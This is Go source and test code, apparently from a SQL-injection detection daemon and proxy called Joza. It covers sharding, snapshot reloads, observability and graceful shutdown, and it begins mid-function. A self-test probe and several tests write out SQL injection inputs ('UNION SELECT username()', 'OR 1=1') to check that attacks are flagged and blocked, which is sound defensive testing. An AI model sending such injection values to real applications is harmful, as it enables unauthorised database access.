	readyGrace := fs.Duration("ready-grace", 0, "on SIGTERM/SIGINT: keep accepting for this long after /readyz flips not-ready, so load balancers drain routing before the listener closes")
	selftest := fs.Bool("selftest", false, "serve a built-in demo fragment set and print a probe")
	if err := fs.Parse(args); err != nil {
		return err
	}
	shardIdx, shardTotal, err := parseShardSpec(*shardSpec)
	if err != nil {
		return err
	}
	dialect, err := sqltoken.ParseDialect(*dialectName)
	if err != nil {
		return err
	}
	// slice keeps the shard's fragment fraction; with no -shard it is the
	// identity, so the single-daemon path is untouched. The ring here is
	// the same FNV-1a construction ShardedPool routes with, so a fleet
	// whose clients key checks the way the corpus is keyed (by fragment
	// text here; by application for per-app corpora) lands each check on
	// the shard holding its fragments.
	slice := func(s *fragments.Set) *fragments.Set { return s }
	if shardTotal > 1 {
		ring := guardrail.NewRing(shardTotal, 0)
		slice = func(s *fragments.Set) *fragments.Set {
			var keep []string
			for _, f := range s.Fragments() {
				if ring.Owner(f) == shardIdx {
					keep = append(keep, f)
				}
			}
			return fragments.NewSetKeepAll(keep)
		}
	}

	var (
		set *fragments.Set
		ins *installer.Installer
	)
	switch {
	case *selftest:
		set = fragments.NewSetDialect(dialect, joza.FragmentsFromSource(`<?php
$q = "SELECT * FROM records WHERE ID=$id LIMIT 5";`))
	case *src != "":
		var err error
		ins, err = installer.New(*src, installer.WithDialect(dialect))
		if err != nil {
			return err
		}
		set = ins.Set()
	default:
		return fmt.Errorf("either -src or -selftest is required")
	}
	mode, err := parseCacheMode(*cacheMode)
	if err != nil {
		return err
	}
	ptiOpts := []pti.Option{pti.WithDialect(dialect)}
	if *maxQueryBytes > 0 {
		ptiOpts = append(ptiOpts, pti.WithMaxQueryBytes(*maxQueryBytes))
	}
	if *maxTokens > 0 {
		ptiOpts = append(ptiOpts, pti.WithMaxTokens(*maxTokens))
	}
	newAnalyzer := func(s *fragments.Set) *pti.Cached {
		return pti.NewCached(pti.New(s, ptiOpts...), mode, *cacheCap)
	}
	// buildServing turns the unsliced corpus into the bundle the daemon
	// serves whole: the shard's analyzer slice, the profile store, and the
	// content-derived snapshot version. The version hashes the corpus
	// BEFORE slicing, so every shard of one fleet generation reports the
	// same version — the slices differ, the generation does not.
	limitsTag := fmt.Sprintf("q%d:t%d", *maxQueryBytes, *maxTokens)
	buildServing := func(full *fragments.Set) (*daemon.Serving, int, error) {
		fresh := slice(full)
		if fresh.Len() == 0 {
			if shardTotal > 1 {
				return nil, 0, fmt.Errorf("shard %d/%d owns no fragments; the corpus is too small to slice %d ways", shardIdx, shardTotal, shardTotal)
			}
			return nil, 0, fmt.Errorf("no SQL-bearing fragments found")
		}
		var store *profile.Store
		if *learnPath == "" && *profilesPath != "" {
			var err error
			store, err = profile.Load(*profilesPath)
			if err != nil {
				return nil, 0, err
			}
			// Skeletons only compare within one dialect: refuse a store
			// trained under another rather than serve verdicts computed
			// across lexers.
			if err := store.ForDialect(dialect); err != nil {
				return nil, 0, fmt.Errorf("%s: %w", *profilesPath, err)
			}
		}
		return &daemon.Serving{
			Analyzer: newAnalyzer(fresh),
			Profiles: store,
			Version:  engine.ComputeVersion(full, store, dialect, limitsTag),
		}, fresh.Len(), nil
	}
	tracer := trace.New(trace.Config{
		SampleEvery:   *traceSample,
		RingSize:      *traceRing,
		SlowThreshold: *traceSlow,
	})
	srvOpts := []daemon.ServerOption{
		daemon.WithReadTimeout(*readTimeout),
		daemon.WithMaxRequestBytes(*maxRequest),
		daemon.WithAdmission(*maxInflight, *admissionWait),
		daemon.WithTracer(tracer),
	}
	var recorder *profile.Recorder
	if *learnPath != "" {
		recorder = profile.NewRecorderDialect(dialect)
		srvOpts = append(srvOpts, daemon.WithProfileRecorder(recorder))
		log.Printf("profile learning: will write %s on shutdown", *learnPath)
	}
	serving, served, err := buildServing(set)
	if err != nil {
		return err
	}
	if serving.Profiles != nil {
		log.Printf("profiles loaded: %d sites, %d skeletons", serving.Profiles.Sites(), serving.Profiles.Skeletons())
	}
	srvOpts = append(srvOpts,
		daemon.WithServing(serving),
		// prepare rebuilds the whole bundle from the sources of record —
		// re-extracted fragments AND a fresh profile load — so a committed
		// rollout can never pair fragments from one generation with
		// profiles from another.
		daemon.WithReloader(func(ctx context.Context) (*daemon.Serving, error) {
			full := set
			if ins != nil {
				if _, err := ins.Refresh(); err != nil {
					return nil, err
				}
				full = ins.Set()
			}
			sv, _, err := buildServing(full)
			return sv, err
		}),
		daemon.WithRolloutHook(testPhaseSleep),
	)
	srv := daemon.NewServer(serving.Analyzer, srvOpts...)

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		return err
	}
	if shardTotal > 1 {
		log.Printf("serving PTI analysis on %s (shard %d/%d, %d fragments, %s, %s, snapshot %s)", ln.Addr(), shardIdx, shardTotal, served, mode, dialect, serving.Version)
	} else {
		log.Printf("serving PTI analysis on %s (%d fragments, %s, %s, snapshot %s)", ln.Addr(), served, mode, dialect, serving.Version)
	}

	// draining flips /readyz not-ready ahead of the listener closing, so
	// load balancers stop routing new connections while the daemon still
	// accepts and finishes in-flight work.
	var draining atomic.Bool
	boundObs := ""
	if *obsAddr != "" {
		obsSrv := obs.NewServer(srv.Stats, tracer, obs.WithReady(func() bool {
			return !draining.Load() && srv.Ready()
		}))
		bound, err := obsSrv.Start(*obsAddr)
		if err != nil {
			return err
		}
		defer func() { _ = obsSrv.Close() }()
		boundObs = bound.String()
		log.Printf("observability on http://%s (/metrics /healthz /readyz /traces /debug/pprof/)", boundObs)
	}
	// Register for SIGTERM before announcing readiness so nothing can
	// deliver a fatal default-action signal in the startup gap.
	sigCh := make(chan os.Signal, 1)
	signal.Notify(sigCh, syscall.SIGTERM, os.Interrupt)
	defer signal.Stop(sigCh)

	if testReady != nil {
		testReady(ln.Addr().String(), boundObs)
	}

	watchProfiles := *learnPath == "" && *profilesPath != ""
	if *watch > 0 && (ins != nil || watchProfiles) {
		// Preprocessing loop, unified across inputs: fragment re-extraction
		// and profile-store reload feed ONE rebuild and ONE swap, so the
		// daemon can never install fragments from one generation alongside
		// profiles from another. The sticky contract survives the merge: a
		// failed rebuild keeps the prior snapshot serving, and every later
		// tick retries until one succeeds.
		go func() {
			ticker := time.NewTicker(*watch)
			defer ticker.Stop()
			var lastMod time.Time
			if watchProfiles {
				if fi, err := os.Stat(*profilesPath); err == nil {
					lastMod = fi.ModTime()
				}
			}
			pending := false
			for range ticker.C {
				rebuild := pending
				if ins != nil {
					changed, err := ins.Refresh()
					if err != nil {
						log.Printf("refresh: %v", err)
						continue
					}
					rebuild = rebuild || changed
				}
				if watchProfiles {
					if fi, err := os.Stat(*profilesPath); err == nil && fi.ModTime().After(lastMod) {
						lastMod = fi.ModTime()
						rebuild = true
					}
				}
				if !rebuild {
					continue
				}
				full := set
				if ins != nil {
					// Reloads slice too, so a sharded daemon keeps serving
					// only its fraction of the refreshed corpus.
					full = ins.Set()
				}
				sv, n, err := buildServing(full)
				if err != nil {
					pending = true
					log.Printf("reload: %v (keeping prior snapshot)", err)
					continue
				}
				pending = false
				srv.SetServing(sv)
				log.Printf("snapshot reloaded: %d fragments, version %s", n, sv.Version)
			}
		}()
	}

	// Learning-mode checkpoints: persist the accumulating store at an
	// interval with the same atomic temp-file-and-rename the final write
	// uses, bounding what a crash can lose to one interval.
	var ckStop, ckDone chan struct{}
	if recorder != nil && *checkpoint > 0 {
		ckStop, ckDone = make(chan struct{}), make(chan struct{})
		go func() {
			defer close(ckDone)
			ticker := time.NewTicker(*checkpoint)
			defer ticker.Stop()
			for {
				select {
				case <-ticker.C:
					if err := writeProfilesAtomic(*learnPath, recorder.Store()); err != nil {
						log.Printf("checkpoint: %v", err)
					}
				case <-ckStop:
					return
				}
			}
		}()
	}

	if *selftest {
		go probe(ln.Addr().String(), dialect)
	}

	// Serve in the background so SIGTERM/SIGINT can drain gracefully:
	// stop accepting, finish in-flight analyses within the drain budget,
	// then exit 0. A second signal is not needed — the drain deadline
	// bounds the wait either way.
	serveErr := make(chan error, 1)
	go func() { serveErr <- srv.Serve(ln) }()
	select {
	case err := <-serveErr:
		return err
	case sig := <-sigCh:
		// Readiness flips before the drain starts: anything watching
		// /readyz sees not-ready while the listener still accepts, and
		// -ready-grace widens that window for slow health-check loops.
		draining.Store(true)
		if *readyGrace > 0 {
			time.Sleep(*readyGrace)
		}
		log.Printf("received %v: draining (up to %s)", sig, *drain)
		ctx, cancel := context.WithTimeout(context.Background(), *drain)
		defer cancel()
		if err := srv.Shutdown(ctx); err != nil {
			log.Printf("drain deadline expired; connections force-closed")
		} else {
			log.Printf("drained cleanly")
		}
		<-serveErr
		if recorder != nil {
			if ckStop != nil {
				close(ckStop)
				<-ckDone
			}
			store := recorder.Store()
			if err := writeProfilesAtomic(*learnPath, store); err != nil {
				return fmt.Errorf("writing learned profiles: %w", err)
			}
			log.Printf("profiles written to %s: %d sites, %d skeletons", *learnPath, store.Sites(), store.Skeletons())
		}
		return nil
	}
}

// writeProfilesAtomic persists a profile store through a same-directory
// temp file and rename, so concurrent readers — and a crash mid-write —
// see either the old bytes or the new bytes, never a torn file.
func writeProfilesAtomic(path string, store *profile.Store) error {
	tmp, err := os.CreateTemp(filepath.Dir(path), ".jozad-profiles-*")
	if err != nil {
		return err
	}
	name := tmp.Name()
	if _, err := tmp.Write(store.Bytes()); err != nil {
		tmp.Close()
		os.Remove(name)
		return err
	}
	if err := tmp.Close(); err != nil {
		os.Remove(name)
		return err
	}
	if err := os.Chmod(name, 0o644); err != nil {
		os.Remove(name)
		return err
	}
	return os.Rename(name, path)
}

// testPhaseSleep widens the rollout phases via environment knobs
// (JOZAD_TEST_PREPARE_SLEEP, JOZAD_TEST_COMMIT_SLEEP) so chaos tests can
// SIGKILL a daemon mid-prepare or mid-commit deterministically. With the
// variables unset it costs one getenv per rollout phase.
func testPhaseSleep(phase string) {
	var env string
	switch phase {
	case "prepare":
		env = "JOZAD_TEST_PREPARE_SLEEP"
	case "commit":
		env = "JOZAD_TEST_COMMIT_SLEEP"
	default:
		return
	}
	if v := os.Getenv(env); v != "" {
		if d, err := time.ParseDuration(v); err == nil && d > 0 {
			time.Sleep(d)
		}
	}
}

// parseShardSpec parses "-shard i/n". Empty means unsharded (0, 1).
func parseShardSpec(s string) (idx, total int, err error) {
	if s == "" {
		return 0, 1, nil
	}
	if _, err := fmt.Sscanf(s, "%d/%d", &idx, &total); err != nil {
		return 0, 0, fmt.Errorf("invalid -shard %q: want i/n, e.g. 0/2", s)
	}
	if total < 1 || idx < 0 || idx >= total {
		return 0, 0, fmt.Errorf("invalid -shard %q: want 0 <= i < n", s)
	}
	return idx, total, nil
}

func parseCacheMode(s string) (pti.CacheMode, error) {
	switch s {
	case "none":
		return pti.CacheNone, nil
	case "query":
		return pti.CacheQuery, nil
	case "query+structure":
		return pti.CacheQueryAndStructure, nil
	default:
		return 0, fmt.Errorf("unknown cache mode %q", s)
	}
}

// probe exercises a freshly started self-test daemon once, speaking the
// same dialect the daemon serves.
func probe(addr string, dialect sqltoken.Dialect) {
	c, err := daemon.Dial(addr)
	if err != nil {
		log.Printf("selftest dial: %v", err)
		return
	}
	defer c.Close()
	c.SetDialect(dialect)
	for _, q := range []string{
		"SELECT * FROM records WHERE ID=5 LIMIT 5",
		"SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5",
	} {
		reply, err := c.Analyze(q)
		if err != nil {
			log.Printf("selftest: %v", err)
			return
		}
		log.Printf("selftest: attack=%v query=%q", reply.Attack, q)
	}
	st, err := c.Stats()
	if err != nil {
		log.Printf("selftest stats: %v", err)
		return
	}
	log.Printf("selftest stats: checks=%d attacks=%d cacheHits=%d cacheMisses=%d p99=%s",
		st.Checks, st.Attacks,
		st.CacheQueryHits+st.CacheStructureHits, st.CacheMisses,
		time.Duration(st.LatencyP99Ns))
}
