// Command joza-proxy deploys Joza as a database proxy: it listens on the
// minidb wire protocol, blocks injected queries, and forwards safe ones to
// an upstream minidb server (or a built-in demo database).
//
// Usage:
//
//	joza-proxy -src /path/to/app -listen 127.0.0.1:7040 -upstream 127.0.0.1:7050
//	          [-dialect mysql] [-max-inflight 64] [-admission-wait 50ms] [-drain 10s]
//	          [-fail-mode closed] [-max-query-bytes 1048576]
//	          [-obs 127.0.0.1:9040] [-trace-sample 1]
//	joza-proxy -demo            # built-in demo DB + fragment set
//
// With -obs the proxy's Guard serves its observability surface over HTTP:
// Prometheus /metrics, /healthz, /traces and /debug/pprof/.
//
// SIGTERM (or SIGINT) drains gracefully: the proxy stops accepting,
// finishes in-flight requests within -drain, and exits 0.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"net"
	"os"
	"os/signal"
	"syscall"
	"time"

	"joza"
	"joza/internal/minidb"
	"joza/internal/proxy"
)

// testReady, when set by a test, receives the bound proxy and
// observability addresses once the listeners are up.
var testReady func(proxyAddr, obsAddr string)

func main() {
	log.SetFlags(0)
	log.SetPrefix("joza-proxy: ")
	if err := run(os.Args[1:]); err != nil {
		log.Fatal(err)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("joza-proxy", flag.ContinueOnError)
	src := fs.String("src", "", "application source directory to extract fragments from")
	listen := fs.String("listen", "127.0.0.1:7040", "proxy listen address")
	dialectName := fs.String("dialect", "mysql", "SQL dialect the guard lexes under: mysql, postgres, sqlite")
	upstream := fs.String("upstream", "", "upstream minidb server address")
	policy := fs.String("policy", "terminate", "recovery policy: terminate, error-virtualization")
	failMode := fs.String("fail-mode", "closed", "how contained pipeline failures resolve: closed (treat as attack), open (serve partial verdict)")
	maxInflight := fs.Int("max-inflight", 0, "max concurrently processed requests; excess requests shed with an overloaded error (0 disables)")
	admissionWait := fs.Duration("admission-wait", 50*time.Millisecond, "with -max-inflight: how long a request may wait for a slot before shedding")
	maxQueryBytes := fs.Int("max-query-bytes", 0, "reject queries longer than this before analysis (0 disables)")
	maxInputBytes := fs.Int("max-input-bytes", 0, "reject requests whose summed input bytes exceed this (0 disables)")
	dpCellBudget := fs.Int("dp-cell-budget", 0, "max NTI matcher DP cells per check (0 disables)")
	maxTokens := fs.Int("max-tokens", 0, "reject queries lexing into more tokens than this (0 disables)")
	drain := fs.Duration("drain", 10*time.Second, "on SIGTERM/SIGINT: finish in-flight requests for up to this long before force-closing")
	obsAddr := fs.String("obs", "", "observability HTTP listen address: /metrics, /healthz, /traces, /debug/pprof/ (empty disables)")
	traceSample := fs.Int("trace-sample", 1, "trace one check in N (0 disables tracing; only used with -obs)")
	traceSlow := fs.Duration("trace-slow", 0, "also mark benign traces at or above this duration notable")
	demo := fs.Bool("demo", false, "use a built-in demo database and fragment set")
	if err := fs.Parse(args); err != nil {
		return err
	}

	var (
		texts   []string
		backend proxy.Backend
	)
	switch {
	case *demo:
		texts = joza.FragmentsFromSource(`<?php
$q = "SELECT id, title FROM posts WHERE id=$id LIMIT 5";`)
		db := minidb.New("demo")
		for _, stmt := range []string{
			"CREATE TABLE posts (id INT, title TEXT)",
			"INSERT INTO posts VALUES (1, 'Hello'), (2, 'World')",
		} {
			if _, err := db.Exec(stmt); err != nil {
				return fmt.Errorf("seed demo database: %w", err)
			}
		}
		backend = proxy.LocalBackend{DB: db}
	case *src != "" && *upstream != "":
		var err error
		texts, err = joza.FragmentsFromDir(*src)
		if err != nil {
			return err
		}
		remote := proxy.NewRemoteBackend(*upstream)
		defer func() { _ = remote.Close() }()
		backend = remote
	default:
		return fmt.Errorf("either -demo or both -src and -upstream are required")
	}

	dialect, err := joza.ParseDialect(*dialectName)
	if err != nil {
		return err
	}
	opts := []joza.Option{joza.WithFragments(texts), joza.WithDialect(dialect)}
	switch *policy {
	case "terminate":
		opts = append(opts, joza.WithPolicy(joza.PolicyTerminate))
	case "error-virtualization":
		opts = append(opts, joza.WithPolicy(joza.PolicyErrorVirtualize))
	default:
		return fmt.Errorf("unknown policy %q", *policy)
	}
	switch *failMode {
	case "closed":
		opts = append(opts, joza.WithFailureMode(joza.FailClosed))
	case "open":
		opts = append(opts, joza.WithFailureMode(joza.FailOpen))
	default:
		return fmt.Errorf("unknown fail mode %q", *failMode)
	}
	if *maxQueryBytes > 0 || *maxInputBytes > 0 || *dpCellBudget > 0 || *maxTokens > 0 {
		opts = append(opts, joza.WithBudgets(joza.Budgets{
			MaxQueryBytes: *maxQueryBytes,
			MaxInputBytes: *maxInputBytes,
			NTIDPCells:    *dpCellBudget,
			PTITokens:     *maxTokens,
		}))
	}
	if *obsAddr != "" {
		sample := *traceSample
		if sample == 0 {
			sample = -1 // flag semantics: 0 disables; the config's 0 means default
		}
		opts = append(opts, joza.WithObservability(joza.ObservabilityConfig{
			Addr:               *obsAddr,
			TraceSampleEvery:   sample,
			TraceSlowThreshold: *traceSlow,
		}))
	}
	guard, err := joza.New(opts...)
	if err != nil {
		return err
	}
	defer func() { _ = guard.Close() }()
	if a := guard.ObservabilityAddr(); a != "" {
		log.Printf("observability on http://%s (/metrics /healthz /traces /debug/pprof/)", a)
	}

	p := proxy.New(guard, backend, proxy.WithAdmission(*maxInflight, *admissionWait))
	ln, err := net.Listen("tcp", *listen)
	if err != nil {
		return err
	}
	log.Printf("proxying on %s (%d fragments, policy %s, %s)",
		ln.Addr(), guard.FragmentCount(), guard.Policy(), guard.Dialect())
	// Register for SIGTERM before announcing readiness so nothing can
	// deliver a fatal default-action signal in the startup gap.
	sigCh := make(chan os.Signal, 1)
	signal.Notify(sigCh, syscall.SIGTERM, os.Interrupt)
	defer signal.Stop(sigCh)

	if testReady != nil {
		testReady(ln.Addr().String(), guard.ObservabilityAddr())
	}

	// Serve in the background so SIGTERM/SIGINT can drain gracefully:
	// stop accepting, finish in-flight requests within the drain budget,
	// flush the Guard's audit log, then exit 0.
	serveErr := make(chan error, 1)
	go func() { serveErr <- p.Serve(ln) }()
	select {
	case err := <-serveErr:
		return err
	case sig := <-sigCh:
		log.Printf("received %v: draining (up to %s)", sig, *drain)
		ctx, cancel := context.WithTimeout(context.Background(), *drain)
		defer cancel()
		if err := p.Shutdown(ctx); err != nil {
			log.Printf("drain deadline expired; connections force-closed")
		} else {
			log.Printf("drained cleanly")
		}
		<-serveErr
		return nil
	}
}
