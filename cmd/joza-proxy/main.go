// Command joza-proxy deploys Joza as a database proxy: it listens on the
// minidb wire protocol, blocks injected queries, and forwards safe ones to
// an upstream minidb server (or a built-in demo database).
//
// Usage:
//
//	joza-proxy -src /path/to/app -listen 127.0.0.1:7040 -upstream 127.0.0.1:7050
//	          [-obs 127.0.0.1:9040] [-trace-sample 1]
//	joza-proxy -demo            # built-in demo DB + fragment set
//
// With -obs the proxy's Guard serves its observability surface over HTTP:
// Prometheus /metrics, /healthz, /traces and /debug/pprof/.
package main

import (
	"flag"
	"fmt"
	"log"
	"net"
	"os"

	"joza"
	"joza/internal/minidb"
	"joza/internal/proxy"
)

// testReady, when set by a test, receives the bound proxy and
// observability addresses once the listeners are up.
var testReady func(proxyAddr, obsAddr string)

func main() {
	log.SetFlags(0)
	log.SetPrefix("joza-proxy: ")
	if err := run(os.Args[1:]); err != nil {
		log.Fatal(err)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("joza-proxy", flag.ContinueOnError)
	src := fs.String("src", "", "application source directory to extract fragments from")
	listen := fs.String("listen", "127.0.0.1:7040", "proxy listen address")
	upstream := fs.String("upstream", "", "upstream minidb server address")
	policy := fs.String("policy", "terminate", "recovery policy: terminate, error-virtualization")
	obsAddr := fs.String("obs", "", "observability HTTP listen address: /metrics, /healthz, /traces, /debug/pprof/ (empty disables)")
	traceSample := fs.Int("trace-sample", 1, "trace one check in N (0 disables tracing; only used with -obs)")
	traceSlow := fs.Duration("trace-slow", 0, "also mark benign traces at or above this duration notable")
	demo := fs.Bool("demo", false, "use a built-in demo database and fragment set")
	if err := fs.Parse(args); err != nil {
		return err
	}

	var (
		texts   []string
		backend proxy.Backend
	)
	switch {
	case *demo:
		texts = joza.FragmentsFromSource(`<?php
$q = "SELECT id, title FROM posts WHERE id=$id LIMIT 5";`)
		db := minidb.New("demo")
		db.MustExec("CREATE TABLE posts (id INT, title TEXT)")
		db.MustExec("INSERT INTO posts VALUES (1, 'Hello'), (2, 'World')")
		backend = proxy.LocalBackend{DB: db}
	case *src != "" && *upstream != "":
		var err error
		texts, err = joza.FragmentsFromDir(*src)
		if err != nil {
			return err
		}
		remote := proxy.NewRemoteBackend(*upstream)
		defer func() { _ = remote.Close() }()
		backend = remote
	default:
		return fmt.Errorf("either -demo or both -src and -upstream are required")
	}

	opts := []joza.Option{joza.WithFragments(texts)}
	switch *policy {
	case "terminate":
		opts = append(opts, joza.WithPolicy(joza.PolicyTerminate))
	case "error-virtualization":
		opts = append(opts, joza.WithPolicy(joza.PolicyErrorVirtualize))
	default:
		return fmt.Errorf("unknown policy %q", *policy)
	}
	if *obsAddr != "" {
		sample := *traceSample
		if sample == 0 {
			sample = -1 // flag semantics: 0 disables; the config's 0 means default
		}
		opts = append(opts, joza.WithObservability(joza.ObservabilityConfig{
			Addr:               *obsAddr,
			TraceSampleEvery:   sample,
			TraceSlowThreshold: *traceSlow,
		}))
	}
	guard, err := joza.New(opts...)
	if err != nil {
		return err
	}
	defer func() { _ = guard.Close() }()
	if a := guard.ObservabilityAddr(); a != "" {
		log.Printf("observability on http://%s (/metrics /healthz /traces /debug/pprof/)", a)
	}

	p := proxy.New(guard, backend)
	ln, err := net.Listen("tcp", *listen)
	if err != nil {
		return err
	}
	log.Printf("proxying on %s (%d fragments, policy %s)",
		ln.Addr(), guard.FragmentCount(), guard.Policy())
	if testReady != nil {
		testReady(ln.Addr().String(), guard.ObservabilityAddr())
	}
	return p.Serve(ln)
}
