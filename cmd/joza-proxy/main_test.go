package main

import "testing"

func TestRunErrors(t *testing.T) {
	if err := run(nil); err == nil {
		t.Error("missing mode must error")
	}
	if err := run([]string{"-src", "/no/such/dir", "-upstream", "127.0.0.1:1"}); err == nil {
		t.Error("bad src must error")
	}
	if err := run([]string{"-demo", "-policy", "bogus"}); err == nil {
		t.Error("bad policy must error")
	}
	if err := run([]string{"-bogus"}); err == nil {
		t.Error("bad flag must error")
	}
}
