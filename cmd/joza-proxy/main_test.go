package main

import (
	"io"
	"net/http"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"

	"joza/internal/minidb"
)

func TestRunErrors(t *testing.T) {
	if err := run(nil); err == nil {
		t.Error("missing mode must error")
	}
	if err := run([]string{"-src", "/no/such/dir", "-upstream", "127.0.0.1:1"}); err == nil {
		t.Error("bad src must error")
	}
	if err := run([]string{"-demo", "-policy", "bogus"}); err == nil {
		t.Error("bad policy must error")
	}
	if err := run([]string{"-bogus"}); err == nil {
		t.Error("bad flag must error")
	}
}

// TestSigtermDrainsAndExitsCleanly boots the demo proxy, proves it
// serves, then delivers SIGTERM: run must drain and return nil so main
// exits 0.
func TestSigtermDrainsAndExitsCleanly(t *testing.T) {
	ready := make(chan string, 1)
	testReady = func(proxyAddr, _ string) { ready <- proxyAddr }
	defer func() { testReady = nil }()
	runErr := make(chan error, 1)
	go func() {
		runErr <- run([]string{"-demo", "-listen", "127.0.0.1:0", "-drain", "5s"})
	}()
	var addr string
	select {
	case addr = <-ready:
	case <-time.After(10 * time.Second):
		t.Fatal("proxy did not come up")
	}
	c, err := minidb.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Query("SELECT id, title FROM posts WHERE id=1 LIMIT 5"); err != nil {
		t.Fatalf("benign query: %v", err)
	}
	_ = c.Close()
	if err := syscall.Kill(os.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-runErr:
		if err != nil {
			t.Fatalf("run after SIGTERM = %v, want nil (exit 0)", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("proxy did not drain after SIGTERM")
	}
}

// TestObservabilityEndToEnd boots the demo proxy with -obs, runs one
// benign and one injected query through the wire, and scrapes /metrics.
func TestObservabilityEndToEnd(t *testing.T) {
	ready := make(chan [2]string, 1)
	testReady = func(proxyAddr, obsAddr string) {
		ready <- [2]string{proxyAddr, obsAddr}
	}
	defer func() { testReady = nil }()
	go func() {
		if err := run([]string{"-demo", "-listen", "127.0.0.1:0", "-obs", "127.0.0.1:0"}); err != nil {
			t.Errorf("run: %v", err)
		}
	}()
	var addrs [2]string
	select {
	case addrs = <-ready:
	case <-time.After(10 * time.Second):
		t.Fatal("proxy did not come up")
	}
	proxyAddr, obsAddr := addrs[0], addrs[1]
	if obsAddr == "" {
		t.Fatal("observability listener did not bind")
	}

	c, err := minidb.Dial(proxyAddr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.QueryWithInputs("SELECT id, title FROM posts WHERE id=1 LIMIT 5",
		[]minidb.WireInput{{Source: "get", Name: "id", Value: "1"}}); err != nil {
		t.Fatalf("benign query: %v", err)
	}
	if _, err := c.QueryWithInputs("SELECT id, title FROM posts WHERE id=-1 OR 1=1 LIMIT 5",
		[]minidb.WireInput{{Source: "get", Name: "id", Value: "-1 OR 1=1"}}); err == nil {
		t.Fatal("injected query was not blocked")
	}

	resp, err := http.Get("http://" + obsAddr + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	body := string(raw)
	for _, want := range []string{
		"joza_checks_total 2",
		"joza_attacks_total 1",
		`joza_stage_duration_seconds_bucket{stage="pti_cover"`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("/metrics missing %q\n%s", want, body)
		}
	}

	hz, err := http.Get("http://" + obsAddr + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	_ = hz.Body.Close()
	if hz.StatusCode != http.StatusOK {
		t.Fatalf("/healthz = %d", hz.StatusCode)
	}
}
