package joza_test

import (
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"

	"joza"
)

// TestDisabledTracingZeroAllocs is the acceptance check for the trace
// layer's off switch: with tracing disabled, the cache-hot Check path must
// stay allocation-free, so the instrumentation's recording sites cost
// nothing when no span is live. Both flavours of "disabled" are covered —
// no observability configured at all (nil tracer via option absence) and
// observability configured with tracing off (nil tracer via negative
// sample rate). NTI runs too: the input carries no value, which is the
// alloc-free steady state the seed already had.
func TestDisabledTracingZeroAllocs(t *testing.T) {
	for _, tc := range []struct {
		name string
		opts []joza.Option
	}{
		{"no-observability", nil},
		{"tracing-off", []joza.Option{joza.WithObservability(joza.ObservabilityConfig{TraceSampleEvery: -1})}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := newGuard(t, tc.opts...)
			query := "SELECT * FROM records WHERE ID=5 LIMIT 5"
			inputs := []joza.Input{{Source: "get", Name: "id", Value: ""}}
			g.Check(query, inputs) // warm the PTI cache
			allocs := testing.AllocsPerRun(200, func() {
				g.Check(query, inputs)
			})
			if allocs != 0 {
				t.Fatalf("Check with tracing disabled allocates %.1f per op, want 0", allocs)
			}
		})
	}
}

func TestGuardTracesDisabled(t *testing.T) {
	g := newGuard(t)
	g.Check("SELECT * FROM records WHERE ID=5 LIMIT 5", nil)
	d := g.Traces()
	if d.Started != 0 || len(d.Recent) != 0 || len(d.Notable) != 0 {
		t.Fatalf("guard without observability recorded traces: %+v", d)
	}
	if g.ObservabilityAddr() != "" {
		t.Fatal("no listener was requested")
	}
	if err := g.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestGuardTracingRecordsEvidence(t *testing.T) {
	g := newGuard(t, joza.WithObservability(joza.ObservabilityConfig{
		TraceSampleEvery: 1,
		TraceRingSize:    8,
	}))
	benign := "SELECT * FROM records WHERE ID=5 LIMIT 5"
	attack := "SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5"
	g.Check(benign, []joza.Input{{Source: "get", Name: "id", Value: "5"}})
	v := g.Check(attack, []joza.Input{{Source: "get", Name: "id", Value: "-1 UNION SELECT username()"}})
	if !v.Attack {
		t.Fatal("attack not flagged")
	}
	d := g.Traces()
	if d.Started != 2 || d.Finished != 2 {
		t.Fatalf("started/finished = %d/%d, want 2/2", d.Started, d.Finished)
	}
	if len(d.Recent) != 2 {
		t.Fatalf("recent holds %d spans, want 2", len(d.Recent))
	}
	if len(d.Notable) != 1 || !d.Notable[0].Attack {
		t.Fatalf("notable = %+v, want the one attack", d.Notable)
	}
	at := d.Notable[0]
	if at.Query != attack {
		t.Fatalf("notable query = %q", at.Query)
	}
	if at.TotalNs <= 0 || at.PTICoverNs <= 0 {
		t.Fatalf("span durations not recorded: %+v", at)
	}
	if len(at.UncoveredTokens) == 0 {
		t.Fatal("attack trace carries no uncovered-token evidence")
	}
	if len(at.Inputs) == 0 || !at.Inputs[0].Matched {
		t.Fatalf("attack trace carries no input-match evidence: %+v", at.Inputs)
	}
	// Traced checks feed the stage histograms.
	m := g.Metrics()
	if len(m.Stages) == 0 {
		t.Fatal("traced checks did not populate stage histograms")
	}
}

func TestGuardTraceSampling(t *testing.T) {
	g := newGuard(t, joza.WithObservability(joza.ObservabilityConfig{
		TraceSampleEvery: 4,
	}))
	for i := 0; i < 8; i++ {
		g.Check("SELECT * FROM records WHERE ID=5 LIMIT 5", nil)
	}
	d := g.Traces()
	if d.Started != 2 {
		t.Fatalf("1-in-4 sampling traced %d of 8 checks, want 2", d.Started)
	}
}

func TestGuardTracingOffWithListener(t *testing.T) {
	g := newGuard(t, joza.WithObservability(joza.ObservabilityConfig{
		Addr:             "127.0.0.1:0",
		TraceSampleEvery: -1,
	}))
	defer g.Close()
	g.Check("SELECT * FROM records WHERE ID=5 LIMIT 5", nil)
	if d := g.Traces(); len(d.Recent) != 0 {
		t.Fatal("negative TraceSampleEvery must disable tracing")
	}
	if g.ObservabilityAddr() == "" {
		t.Fatal("listener must still run with tracing off")
	}
}

